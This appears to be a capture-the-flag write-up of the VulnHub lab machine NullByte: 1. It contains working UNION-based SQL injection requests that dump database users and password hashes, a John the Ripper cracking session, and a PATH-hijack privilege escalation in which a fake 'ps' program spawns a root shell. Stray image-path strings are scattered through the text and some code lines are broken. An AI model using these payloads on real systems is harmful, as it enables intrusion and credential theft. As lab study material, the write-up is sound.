Objetcive: Get to /root/proof.txt and follow the instructions.
Level: Basic to intermediate.
Description: Boot2root, box will get IP from dhcp, works fine with virtualbox&vmware.
Hints: Use your lateral thinking skills, maybe you’ll need to write some code.

This box is on the NetSecFocus Admin list of OSCP-like machines. It’s NULLBYTE: 1 from vulnhub.


This box has:

  1. a filtered SSH port on 22,
  2. an open SSH port on 777,
  3. rpcbind on 111 and 53303, and
  4. Apache on Port 80Gobuster on the root of the webserver reveals a few potentially interesting things in phpmyadmin and uploads, but we have no creds for phpMyAdmin and no directory listing for uploads. Fuzzing for content in uploads turns up nothing.

The front page of the webserver has a GIF image and some slightly cryptic text:

If you search for the laws of harmony, you will find knowledge.

We can download the GIF from the page and check with exiftools to find this:

Comment : P-): kzMb5nVYJw

This is a subdirectory.At we find a box in which we can enter a ‘key’. The page source offers a hint:

this form isn’t connected to mysql, password ain’t that complex

I attacked it with Burp Turbo Intruder, and found the key was elite.

Entering the key takes us to a page where we can search for usernames, i.e.

I threw this request at SQLMap and was able to dump out two usernames, and a password hash for one of them:



The hash is base64 encoded, but we can decode it - it then is revealed to be an MD5. John can take care of the decoded hash:

root@kali:/opt/vulnhub/nullbyte# john md5.txt --format=Raw-MD5 -w=/usr/share/wordlists/rockyou.txt
Loaded 1 password hash (Raw-MD5 [MD5 128/128 AVX 4x3])
Warning: no OpenMP support for this hash type, consider --fork=4
Press 'q' or Ctrl-C to abort, almost any other key for status
omega            (?)
1g 0:00:00:00 DONE (2020-10-1611:26) 100.0g/s 1152Kp/s 1152Kc/s 1152KC/s vainilla..silencio
Use the "--show --format=Raw-MD5" options to display all of the cracked passwords reliably
Session completed


Now we can SSH in as ramses. Poking around, we can find an SUID binary called procwatch in /var/www/backup along with a note saying:

I have to fix this mess…

I copy the binary to my own box with scp and then decompile it in Ghidra. The decompiled main function looks like this:undefined4 main(void)
  undefined2 local_42;
  undefined local_40;
  undefined *local_c;
  local_c = &stack0x00000004;
  local_42 = 0x7370;
  local_40 = 0;
  system((char *)&local_42);
  return 0;

0x7370 is ps. So it appears this binary (running as root) is calling ps, without specifying the path. Whoops.


Here’s my new file ps.c:

#include <unistd.h>
int main(void)
  system ("/bin/bash");We’ll compile it:

ramses@NullByte:/var/www/backup$ gcc ps.c -o ps

And add our pwd to our path:

ramses@NullByte:/var/www/backup$ export PATH=/var/www/backup:$PATH

Now let’s see:

ramses@NullByte:/var/www/backup$ ./procwatch
root@NullByte:/var/www/backup# whoami

root@NullByte:/root# cat proof.txtIt seems that you have pwned the box, congrats.

Great, job done. Or, perhaps not quite.


This obviously wasn’t done for the OSCP but they don’t let you use SQLMap I don’t think, so let’s go back and do the SQLi manually.


To start the process we can fuzz the usrtosearch parameter with Burp Intruder:

GET /kzMb5nVYJw/420search.php?usrtosearch=§admin§ HTTP/1.1

I used the following list from PayloadsAllTheThings:



” gives this message:

Could not get data: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ‘%”’ at line 1

and # gives all of the data about the users:

EMP NAME : ramses
EMP NAME : isis
EMP POSITION : employee
Fetched data successfully

and we can clearly see there are three fields returned.

So at this point we know we have MySQL with three fields.Field Count

In case we wanted to check, we could do:

GET /kzMb5nVYJw/420search.php?usrtosearch=admin1”+ORDER+BY+1%23 HTTP/1.1

Where we increment the ‘1’. When we get to 4, we get the following error:

Could not get data: Unknown column ‘4’ in ‘order clause’

So this also confirms we have 3 fields.


We can use the following commands to get the database names, tables, fields and finally data. I also extract the MySQL version information with @@version:

Getting the database namesGET /kzMb5nVYJw/420search.php?usrtosearch=admin"+UNION+ALL+SELECT+NULL,@@version,gRoUp_cOncaT(0x7c,schema_name,0x7c)+fRoM+information_schema.schemata%23 HTTP/1.1

EMP ID :  <br> EMP NAME : 5.5.44-0+deb8u1 <br> EMP POSITION :|information_schema|,|mysql|,|performance_schema|,|phpmyadmin|,|seth| <br> ---<br>Fetched data successfully

Getting the table names from seth

GET /kzMb5nVYJw/420search.php?usrtosearch=admin"+UNION+ALL+SELECT+NULL,@@version,gRoUp_cOncaT(0x7c,table_name,0x7C)+fRoM+information_schema.tables+wHeRe+table_schema='seth'%23 HTTP/1.1

EMP ID :  <br> EMP NAME : 5.5.44-0+deb8u1 <br> EMP POSITION : |users| <br> ---<br>Fetched data successfully

Getting the columns from users

GET /kzMb5nVYJw/420search.php?usrtosearch=admin"+UNION+ALL+SELECT+NULL,@@version,gRoUp_cOncaT(0x7c,column_name,0x7C)+fRoM+information_schema.columns+wHeRe+table_name='users'%23 HTTP/1.1

EMP ID :  <br> EMP NAME : 5.5.44-0+deb8u1 <br> EMP POSITION : |id|,|user|,|pass|,|position| <br> ---<br>

Getting the data from user and pass

GET /kzMb5nVYJw/420search.php?usrtosearch=admin"+UNION+ALL+SELECT+NULL,@@version,gRoUp_cOncaT(0x7c,user,0x7C,pass,0x7C)+fRoM+seth.users%23 HTTP/1.1EMP ID :  <br> EMP NAME : 5.5.44-0+deb8u1 <br> EMP POSITION :|ramses|YzZkNmJkN2ViZjgwNmY0M2M3NmFjYzM2ODE3MDNiODE|,|isis|--not allowed--| <br> ---<br>Now we have the hashmanually, no SQLMap required.

Nice box, thanks ly0n